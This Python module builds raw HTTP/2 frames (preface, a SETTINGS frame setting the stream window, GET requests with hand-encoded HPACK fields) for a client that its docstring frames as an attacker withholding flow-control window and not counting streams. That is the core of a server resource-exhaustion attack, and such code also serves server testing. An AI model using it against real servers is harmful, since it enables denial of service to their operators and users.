"""HTTP/2 frames of a client that sends requests and grants no window for their answers (RFC 9113).

A library would keep the windows open and count the streams: an attacker does neither.
"""

from collections.abc import Mapping

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, RST_STREAM = 0x0, 0x3
"""Types of frames that a server sends."""

_HEADERS, _SETTINGS = 0x1, 0x4
_END_STREAM_AND_HEADERS = 0x1 | 0x4
_INITIAL_WINDOW_SIZE = 0x4
_LONGEST_SHORT_TEXT = 126


def greeting(window: int) -> bytes:
    """The first bytes of a connection on which each stream has this window, in bytes."""
    setting = _INITIAL_WINDOW_SIZE.to_bytes(2, "big") + window.to_bytes(4, "big")
    return PREFACE + _frame(_SETTINGS, 0, 0, setting)


def get(number: int, authority: str, path: str, headers: Mapping[str, str] | None = None) -> bytes:
    """The number-th request of a connection, from 0."""
    fields = {":method": "GET", ":scheme": "https", ":authority": authority, ":path": path, **(headers or {})}
    block = b"".join(map(_field, fields, fields.values()))
    return _frame(_HEADERS, _END_STREAM_AND_HEADERS, stream_id(number), block)


def stream_id(number: int) -> int:
    """The stream of the number-th request: a client's streams are odd (5.1.1)."""
    return 2 * number + 1


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _field(name: str, value: str) -> bytes:
    """A literal field, not indexed, without Huffman coding (RFC 7541, 6.2.2)."""
    return b"\x00" + _text(name.encode()) + _text(value.encode())


def _text(text: bytes) -> bytes:
    """The length as an integer with a prefix of seven bits (RFC 7541, 5.1), and the bytes."""
    if len(text) <= _LONGEST_SHORT_TEXT:
        return bytes((len(text),)) + text
    rest, length = len(text) - 127, b"\x7f"
    while rest > 127:
        length += bytes((rest % 128 + 128,))
        rest //= 128
    return length + bytes((rest,)) + text
